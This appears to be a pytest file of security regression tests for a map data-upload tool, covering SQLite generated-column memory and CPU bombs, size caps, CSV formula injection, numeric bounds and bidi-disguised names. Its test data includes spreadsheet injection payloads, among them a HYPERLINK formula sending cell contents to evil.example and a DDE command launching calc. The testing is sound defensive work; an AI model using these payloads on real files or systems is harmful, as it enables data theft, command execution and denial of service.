"""The second red-team round (issue 20), one test per finding: GeoPackages that SQLite would evaluate on
read, per-value and per-file caps, formulas in every CSV the project writes, numbers beyond the contract,
and refusals where a crash used to be."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point

from geo import upload, upload_read
from geo.csvfile import csv_bytes_of, csv_text, neutralise_formula
from geo.io import load_dataset
from geo.schema import row_problems
from geo.upload import ColumnMapping, import_upload
from geo.upload_read import MAX_COLUMNS, MAX_VALUE_BYTES, UploadError, read_upload

ROOT = Path(__file__).resolve().parent.parent

VALID = {
    "id": "my-1",
    "name_en": "Interview place",
    "kind": "arrest",
    "confidence": "single-source",
    "location_precision": "city",
    "source_ids": "S1",
    "date_start": "2023-10-09",
}


@pytest.fixture(scope="module")
def sources() -> pd.DataFrame:
    return load_dataset().sources


def gpkg_file(tmp_path: Path, rows: int = 3, **columns: object) -> Path:
    base = {k: [v] * rows for k, v in VALID.items()}
    base.update({k: [v] * rows for k, v in columns.items()})
    gdf = gpd.GeoDataFrame(base, geometry=[Point(129.5076, 42.887)] * rows, crs="EPSG:4326")
    path = tmp_path / "mine.gpkg"
    gdf.to_file(path, driver="GPKG", layer="mine")
    return path


# --- GeoPackages SQLite would evaluate on read --------------------------------------------------------

MEMORY_BOMB = "printf('%.*c', 300000000, 'x')"  # 300 MB a row, computed on every read
CPU_BOMB = "length(replace(hex(zeroblob(100000000)),'0','ab'))"  # seconds and 1.4 GB for 3 rows

# The child reads the file under an address-space limit: the baseline after every import, plus 300 MB.
CHILD = r"""
import resource, sys
import pyogrio  # loaded before the limit, as in the running app
from geo.upload import UploadError, read_upload

def vm_bytes():
    for line in open("/proc/self/status"):
        if line.startswith("VmSize:"):
            return int(line.split()[1]) * 1024

limit = vm_bytes() + 300 * 1024 * 1024
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
data = open(sys.argv[1], "rb").read()
name = sys.argv[2] if len(sys.argv) > 2 else "mine.gpkg"
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    read_upload(name, data)
except UploadError as error:
    print("refused:", error)
except MemoryError:
    print("out of memory")
else:
    print("accepted")
print("peak growth MB:", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


def with_generated_column(path: Path, expression: str, column: str = "big TEXT") -> Path:
    with sqlite3.connect(path) as connection:
        connection.execute(f"ALTER TABLE mine ADD COLUMN {column} GENERATED ALWAYS AS ({expression}) VIRTUAL")
    return path


@pytest.mark.parametrize("expression", [MEMORY_BOMB, CPU_BOMB], ids=["memory", "cpu"])
def test_a_generated_column_is_refused_within_a_memory_limit(tmp_path, expression):
    path = with_generated_column(gpkg_file(tmp_path), expression)
    assert path.stat().st_size < 200_000
    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(path)], cwd=ROOT, capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.startswith("refused: The GeoPackage has a generated column"), done.stdout + done.stderr[-500:]
    growth = int(done.stdout.rsplit("peak growth MB:", 1)[1])
    assert growth < 50, done.stdout  # the expression never ran: not one 300 MB value was built


def test_the_worst_geojson_is_refused_within_the_stated_peak(tmp_path):
    """SECURITY.md: a GeoJSON is parsed whole; 10 MB of nested empty arrays (the most Python objects a
    byte) peaks under 300 MB while it is read, then is refused by the per-value cap."""
    body = "[" + ",".join(["[]"] * ((upload_read.MAX_UPLOAD_BYTES - 200) // 3)) + "]"
    document = '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"x":' + body + "}}]}"
    path = tmp_path / "lists.geojson"
    path.write_text(document)
    assert path.stat().st_size <= upload_read.MAX_UPLOAD_BYTES
    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(path), "lists.geojson"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.startswith("refused: The column 'x' holds a value of"), done.stdout


def test_the_memory_limit_of_the_child_is_real(tmp_path):
    """The same child and limit, given 400 MB to hold: it runs out of memory (so the refusal above is
    what kept it within the limit)."""
    script = CHILD.replace('data = open(sys.argv[1], "rb").read()', "data = bytearray(400 * 1024 * 1024)")
    done = subprocess.run(
        [sys.executable, "-c", script, "x"], cwd=ROOT, capture_output=True, text=True, timeout=120, check=False
    )
    assert "accepted" not in done.stdout
    assert done.returncode != 0 or "out of memory" in done.stdout


def test_a_stored_generated_column_in_any_table_is_refused(tmp_path):
    path = gpkg_file(tmp_path)
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE side (a INTEGER, b INTEGER GENERATED ALWAYS AS (a * 2) STORED)")
    with pytest.raises(UploadError, match="generated column"):
        read_upload("m.gpkg", path.read_bytes())


def test_a_generated_column_hidden_from_pragma_is_refused_by_its_sql(tmp_path):
    """`GENERATED ALWAYS` in a table's SQL is refused even where table_xinfo would not flag it."""
    path = gpkg_file(tmp_path)
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE side (a INTEGER, b INTEGER AS (a * 2))")
    with pytest.raises(UploadError, match="generated column"):
        read_upload("m.gpkg", path.read_bytes())


def test_a_feature_table_that_is_a_view_is_refused(tmp_path):
    path = gpkg_file(tmp_path)
    with sqlite3.connect(path) as connection:
        connection.execute("ALTER TABLE mine RENAME TO mine_data")
        connection.execute("CREATE VIEW mine AS SELECT * FROM mine_data")
    with pytest.raises(UploadError, match="SQL view"):
        read_upload("m.gpkg", path.read_bytes())


def test_a_custom_collation_is_refused(tmp_path):
    path = gpkg_file(tmp_path)
    with sqlite3.connect(path) as connection:
        connection.create_collation("reverse", lambda a, b: (a < b) - (a > b))
        connection.execute("CREATE TABLE side (a TEXT COLLATE reverse)")
    with pytest.raises(UploadError, match="custom collation"):
        read_upload("m.gpkg", path.read_bytes())


def test_a_column_named_generated_is_not_a_generated_column(tmp_path):
    raw = read_upload("m.gpkg", gpkg_file(tmp_path, generated="yes").read_bytes())
    assert "generated" in raw.columns and raw.rows[0]["generated"] == "yes"


# --- caps on every column read, mapped or not ----------------------------------------------------------


def test_a_large_value_in_an_unmapped_geopackage_column_is_refused(tmp_path):
    path = gpkg_file(tmp_path, unmapped="x" * (MAX_VALUE_BYTES + 1))
    with pytest.raises(UploadError, match=r"'unmapped' holds a value of 20,001 bytes; the limit is 20,000"):
        read_upload("m.gpkg", path.read_bytes())


def test_a_large_value_in_an_unmapped_csv_or_geojson_column_is_refused():
    big = "한" * (MAX_VALUE_BYTES // 3 + 1)  # 3 bytes a character in UTF-8: under 20,000 characters, over the bytes
    text = csv_text(["latitude", "longitude", "unmapped"], [[42.887, 129.5076, big]])
    with pytest.raises(UploadError, match="'unmapped' holds a value of 20,001 bytes"):
        read_upload("m.csv", text.encode())
    document = {
        "type": "FeatureCollection",
        "features": [{"type": "Feature", "properties": {"unmapped": big}, "geometry": None}],
    }
    with pytest.raises(UploadError, match="'unmapped' holds a value"):
        read_upload("m.geojson", json.dumps(document).encode())


def test_a_geopackage_over_the_column_limit_is_refused(tmp_path):
    columns = {f"c{i}": "v" for i in range(MAX_COLUMNS + 1)}
    path = gpkg_file(tmp_path, rows=1, **columns)
    with pytest.raises(UploadError, match=f"The layer has {MAX_COLUMNS + len(VALID) + 1:,} columns; the limit is 200"):
        read_upload("m.gpkg", path.read_bytes())


def test_a_geopackage_at_the_column_limit_is_read(tmp_path):
    columns = {f"c{i}": "v" for i in range(MAX_COLUMNS - len(VALID))}
    raw = read_upload("m.gpkg", gpkg_file(tmp_path, rows=1, **columns).read_bytes())
    assert len(raw.columns) == MAX_COLUMNS


def test_the_session_keeps_only_the_mapped_columns(tmp_path):
    raw = read_upload("m.gpkg", gpkg_file(tmp_path, unmapped="a lot of text").read_bytes())
    mapping = upload.guess_mapping(raw)
    kept = upload_read.keep_columns(raw, mapping.columns.values())
    assert "unmapped" in kept.columns  # still offered in the mapping
    assert all("unmapped" not in row for row in kept.rows)
    assert kept.kept == frozenset(mapping.columns.values())


# --- one CSV writer for everything the project writes ------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "\r=1+1,next",
    "\rsplit",
]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_writer_neutralises_and_quotes_every_hostile_value():
    frame = pd.DataFrame({"id": HOSTILE, "n": range(len(HOSTILE))})
    rows = read_back(csv_bytes_of(frame))
    assert len(rows) == len(HOSTILE) + 1  # no value split a row
    for value, row in zip(HOSTILE, rows[1:], strict=True):
        assert row[0] == "'" + value
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert neutralise_formula("12") == "12" and neutralise_formula("한") == "한"


def test_numbers_are_written_as_numbers_not_neutralised():
    rows = read_back(csv_bytes_of(pd.DataFrame({"lon": [-1.5], "count": [-3], "none": [None]})))
    assert rows[1] == ["-1.5", "-3", ""]


def test_the_rejection_report_neutralises_uploaded_ids(sources):
    """The Import page's rejected-rows.csv is built by the same writer from the rejection table."""
    text = csv_text(["id", "latitude", "longitude"], [[value, "", ""] for value in HOSTILE])
    result = import_upload("m.csv", text.encode(), sources)
    assert len(result.rejected) >= len(HOSTILE)
    rows = read_back(csv_bytes_of(result.rejected))
    assert rows[0] == upload.REJECTED_COLUMNS
    ids = [row[2] for row in rows[1:]]
    assert len(rows) - 1 == len(result.rejected)
    assert all(not i.startswith(("=", "+", "-", "@", "\t", "\r")) for i in ids)
    assert {"'" + value for value in HOSTILE} <= set(ids)


def test_the_import_page_uses_the_one_writer():
    page = (ROOT / "views" / "import_data.py").read_text()
    assert "csv_bytes_of(report)" in page and "to_csv" not in page
    for path in [*ROOT.glob("geo/**/*.py"), *ROOT.glob("views/*.py"), ROOT / "app.py"]:
        if path.name == "csvfile.py":
            continue
        text = path.read_text()
        assert "csv.writer" not in text and ".to_csv(" not in text and "DictWriter" not in text, path


def test_the_example_csv_is_written_by_the_writer_and_reads_back():
    rows = read_back(upload.example_csv().encode())
    assert rows[0][-2:] == ["latitude", "longitude"] and len(rows) == 4
    assert upload.example_csv() == csv_text(rows[0], rows[1:])


# --- numbers beyond the contract ----------------------------------------------------------------------

HUGE = "9" * 401


def csv_row(**changes: str) -> bytes:
    row = {**VALID, "latitude": "42.887", "longitude": "129.5076", **changes}
    return (",".join(row) + "\n" + ",".join(row.values()) + "\n").encode()  # as typed: no writer in between


def mapped(raw_columns: list[str]) -> ColumnMapping:
    columns = {c: c for c in raw_columns if c in dict(upload.MAPPABLE_FIELDS)}
    return ColumnMapping(columns, {"date_precision": upload.AUTO})


@pytest.mark.parametrize(
    ("changes", "field", "reason"),
    [
        ({"latitude": HUGE}, "latitude", "too large"),
        ({"longitude": "-" + HUGE}, "longitude", "too large"),
        ({"count_low": HUGE}, "count_low", "below 1,000,000,000"),
        ({"count_low": "1000000000"}, "count_low", "below 1,000,000,000"),
        ({"uncertainty_m": HUGE}, "uncertainty_m", "too large"),
        ({"uncertainty_m": "99999999999999999999999999999"}, "uncertainty_m", "too large"),
        ({"uncertainty_m": "1000001"}, "uncertainty_m", "at most 1,000,000 m"),
        ({"uncertainty_m": "0"}, "uncertainty_m", "positive"),
    ],
)
def test_numbers_beyond_the_contract_are_rejected_in_csv(sources, changes, field, reason):
    data = csv_row(**changes)
    raw = read_upload("m.csv", data)
    result = upload.build_layer(raw, mapped(raw.columns), sources)
    assert len(result.layer) == 0
    found = result.rejected[result.rejected["field"] == field]["reason"].tolist()
    assert any(reason in r for r in found), result.rejected.to_dict("records")


@pytest.mark.parametrize(
    ("properties", "geometry", "field", "reason"),
    [
        ({}, [int(HUGE), 42.887], "geometry", "too large"),
        ({"count_low": int(HUGE)}, [129.5076, 42.887], "count_low", "below 1,000,000,000"),
        ({"uncertainty_m": int(HUGE)}, [129.5076, 42.887], "uncertainty_m", "too large"),
        ({"uncertainty_m": 1e29}, [129.5076, 42.887], "uncertainty_m", "too large"),
        ({"uncertainty_m": 1e308}, [129.5076, 42.887], "uncertainty_m", "too large"),
        ({"uncertainty_m": 5e6}, [129.5076, 42.887], "uncertainty_m", "at most 1,000,000 m"),
    ],
)
def test_numbers_beyond_the_contract_are_rejected_in_geojson(sources, properties, geometry, field, reason):
    feature = {"type": "Feature", "properties": {**VALID, **properties}, "geometry": {"type": "Point"}}
    feature["geometry"]["coordinates"] = geometry
    data = json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()
    raw = read_upload("m.geojson", data)
    result = upload.build_layer(raw, mapped(raw.columns), sources)
    assert len(result.layer) == 0
    found = result.rejected[result.rejected["field"] == field]["reason"].tolist()
    assert any(reason in r for r in found), result.rejected.to_dict("records")


def test_a_count_of_thousands_of_digits_in_csv_is_rejected_not_a_crash(sources):
    raw = read_upload("m.csv", csv_row(count_low="9" * 5000))
    result = upload.build_layer(raw, mapped(raw.columns), sources)
    assert "below 1,000,000,000" in result.rejected["reason"].iloc[0]


def test_the_data_validation_applies_the_same_bounds(sources):
    """geo.schema.row_problems (the bundled data's check, `python -m geo validate`) says the same."""
    spec = upload_read.UPLOAD_SPEC
    base = {
        **VALID,
        "source_ids": ["S1"],
        "geometry": Point(129.5076, 42.887),
        "uncertainty_m": 10_000,
        "date_precision": "day",
    }
    known = set(sources["id"])
    assert row_problems(base, spec, known) == []
    for radius in (1e29, 1e308, float("inf"), 10**400, 1_000_001):
        found = row_problems({**base, "uncertainty_m": radius}, spec, known)
        assert [f for f, _ in found] == ["uncertainty_m"] and "at most 1,000,000 m" in found[0][1], found
    for count in (10**9, 10**400):
        found = row_problems({**base, "count_low": count, "count_source_ids": ["S1"]}, spec, known)
        assert [f for f, _ in found] == ["count_low"] and "below 1,000,000,000" in found[0][1], found


# --- what a name can do on the map -------------------------------------------------------------------

DISGUISED = "Yanji \u202egpj.exe\u202c \u2066x\u2069 \u200e\u200f\u061c"


def test_bidi_controls_are_shown_not_applied_and_long_names_are_cut_in_tooltips():
    from geo.payload import LABEL_CHARS, feature_properties
    from geo.text import SHORT_TEXT_CHARS, escape_markdown, escape_markdown_inline

    props = feature_properties("uploaded", {"id": "u1", "name_en": DISGUISED, "name_ko": "가" * 5000})
    assert props["name_en"].startswith("Yanji [U+202E]gpj.exe[U+202C] [U+2066]x[U+2069]")
    for text in (props["name_en"], escape_markdown(DISGUISED), escape_markdown_inline(DISGUISED)):
        assert not any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
    assert len(props["name_ko"]) == SHORT_TEXT_CHARS and props["name_ko"].endswith("…")
    crossing = feature_properties("crossings", {"id": "x", "name_en": "n" * 5000, "used_2023_10_09": True})
    assert len(crossing["label"]) == LABEL_CHARS and crossing["label"].endswith("…")
    # The details panel (Markdown) keeps the whole text.
    assert escape_markdown("가" * 5000) == "가" * 5000


def test_the_bundled_names_are_not_cut():
    from geo.payload import feature_properties

    dataset = load_dataset()
    for layer, gdf in dataset.layers.items():
        for row in gdf.to_dict("records"):
            assert feature_properties(layer, row)["name_en"] == row["name_en"], (layer, row["id"])


def test_an_uploaded_route_leg_is_labelled_by_its_own_date(sources):
    from geo.payload import feature_properties
    from geo.vocab import KIND_LABELS

    leg = {
        "type": "Feature",
        "properties": {**VALID, "kind": "route_leg", "date_start": "2019-05-01", "location_precision": "town"},
        "geometry": {"type": "LineString", "coordinates": [[129.5, 42.9], [129.8, 42.96]]},
    }
    result = import_upload(
        "legs.geojson", json.dumps({"type": "FeatureCollection", "features": [leg]}).encode(), sources
    )
    assert len(result.layer) == 1, result.rejected.to_dict("records")
    row = result.layer.iloc[0].to_dict()
    props = feature_properties(upload_read.UPLOAD_LAYER, row)
    assert "9 Oct" not in props["kind_label"] and props["date_label"] == "1 May 2019"
    details = upload.uploaded_feature_details(result.layer, sources, "my-1", KIND_LABELS)
    assert details is not None and "9 Oct" not in details.kind and details.dates == "1 May 2019"
    # A bundled leg still says which day it belongs to.
    bundled = load_dataset().layers["routes"].iloc[0].to_dict()
    assert "9 Oct 2023" in feature_properties("routes", bundled)["kind_label"]


# --- one rule for spaces, and a name that matches the content --------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("count_low", " 12 "),
        ("count_low", "12\u00a0"),
        ("count_low", "\t12"),
        ("uncertainty_m", " 500"),
        ("latitude", "42.887 "),
        ("date_start", " 2023-10-09"),
        ("location_precision", "city "),
        ("kind", " arrest"),
        ("id", "my-1 "),
    ],
)
def test_nothing_is_trimmed_in_any_checked_field(sources, field, value):
    raw = read_upload("m.csv", csv_row(**{field: value}))
    result = upload.build_layer(raw, mapped(raw.columns), sources)
    assert len(result.layer) == 0
    found = result.rejected[result.rejected["field"] == field]["reason"].tolist()
    assert any("has spaces around it: nothing is trimmed" in r for r in found), result.rejected.to_dict("records")


def test_blank_cells_stay_empty_and_free_text_is_kept_exactly(sources):
    raw = read_upload("m.csv", csv_row(count_low="  ", name_en=" Yanji "))
    result = upload.build_layer(raw, mapped(raw.columns), sources)
    assert len(result.layer) == 1, result.rejected.to_dict("records")
    assert result.layer.iloc[0]["name_en"] == " Yanji " and pd.isna(result.layer.iloc[0]["count_low"])


def test_the_trimming_rule_is_stated_on_the_import_page():
    assert "Nothing is trimmed" in upload_read.LIMITS_TEXT


@pytest.mark.parametrize("name", ["points.csv", "points.geojson", "points.json", "points"])
def test_a_geopackage_under_another_name_is_refused(tmp_path, name):
    with pytest.raises(UploadError, match=r"is an SQLite database .* name it \.gpkg"):
        read_upload(name, gpkg_file(tmp_path).read_bytes())


def test_json_named_csv_is_refused():
    document = {"type": "FeatureCollection", "features": []}
    with pytest.raises(UploadError, match=r"named \.csv but holds JSON"):
        read_upload("points.csv", json.dumps(document).encode())


# --- every file the project writes: never into data/, always atomically, one line on failure ---------


def no_space(*args, **kwargs):
    raise OSError(28, "No space left on device")


def hidden_leftovers(directory: Path) -> list[Path]:
    return [p for p in directory.iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize(
    "command",
    [
        ["briefing", "--out", "{data}/briefing.html"],
        ["briefing", "--out", "{data}/../data/basemap/briefing.html"],
        ["figure", "--scene", "held", "--out", "{data}/held.png"],
    ],
)
def test_briefing_and_figure_refuse_to_write_into_data(capsys, command):
    from geo.__main__ import main
    from geo.io import DATA_DIR

    before = sorted(p.name for p in DATA_DIR.rglob("*"))
    args = [part.replace("{data}", str(DATA_DIR)) for part in command]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "refusing to write into the data directory" in err
    assert sorted(p.name for p in DATA_DIR.rglob("*")) == before


@pytest.mark.parametrize(
    "command",
    [
        ["briefing", "--out", "{out}"],
        ["figure", "--scene", "held", "--out", "{out}"],
        ["export", "--format", "csv", "--out", "{out}"],
    ],
    ids=["briefing", "figure", "export"],
)
def test_a_failed_write_leaves_the_old_file_and_says_so_in_one_line(tmp_path, capsys, monkeypatch, command):
    from geo.__main__ import main

    suffix = {"briefing": ".html", "figure": ".png", "export": ".csv"}[command[0]]
    out = tmp_path / f"out{suffix}"
    out.write_bytes(b"the previous version")
    monkeypatch.setattr("os.fsync", no_space)  # the disk fills up while the new file is written
    assert main([part.replace("{out}", str(out)) for part in command]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "No space left on device" in err and "Traceback" not in err
    assert out.read_bytes() == b"the previous version"
    assert hidden_leftovers(tmp_path) == []


def test_the_manifest_and_the_basemap_build_write_atomically(tmp_path, monkeypatch):
    from geo.basemap_build import write_text
    from geo.manifest import MANIFEST_NAME, write_manifest

    (tmp_path / MANIFEST_NAME).write_text("old manifest")
    (tmp_path / "towns.geojson").write_text("old layer")
    monkeypatch.setattr("os.fsync", no_space)
    with pytest.raises(OSError, match="No space"):
        write_manifest(tmp_path)
    with pytest.raises(OSError, match="No space"):
        write_text(tmp_path / "towns.geojson", "new layer")
    assert (tmp_path / MANIFEST_NAME).read_text() == "old manifest"
    assert (tmp_path / "towns.geojson").read_text() == "old layer"
    assert hidden_leftovers(tmp_path) == []


# --- configuration -------------------------------------------------------------------------------------


def test_the_server_listens_on_loopback_unless_told_otherwise():
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "127.0.0.1"
    readme = (ROOT / "README.md").read_text()
    assert "--server.address 0.0.0.0" in readme


def test_security_md_says_how_to_block_the_metrics_and_check_hosts():
    text = (ROOT / "SECURITY.md").read_text()
    assert "location ^~ /_stcore/metrics { return 404; }" in text
    assert 'allowedHosts = ["crossings.example.org"]' in text


PLACED = {"geometry": {"type": "Point", "coordinates": [129.5076, 42.887]}, "location_precision": "city"}


def test_geo_validate_applies_the_same_bounds(make_feature, make_data_dir):
    data_dir = make_data_dir(
        {
            "events": [
                make_feature("events"),
                make_feature("events", id="ev-wide", uncertainty_m=1e29, **PLACED),
                make_feature("events", id="ev-wider", uncertainty_m=1e308, **PLACED),
                make_feature("events", id="ev-many", count_low=10**9, count_high=10**9, count_source_ids=["S1"]),
            ]
        }
    )
    done = subprocess.run(
        [sys.executable, "-m", "geo", "validate", "--data", str(data_dir)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert (
        "(ev-wide): uncertainty_m: uncertainty radius must be at most 1,000,000 m (1,000 km), got 1e+29 m"
        in done.stdout
    )
    assert "(ev-wider): uncertainty_m: uncertainty radius must be at most 1,000,000 m" in done.stdout
    assert "(ev-many): count_low: count_low must be below 1,000,000,000" in done.stdout
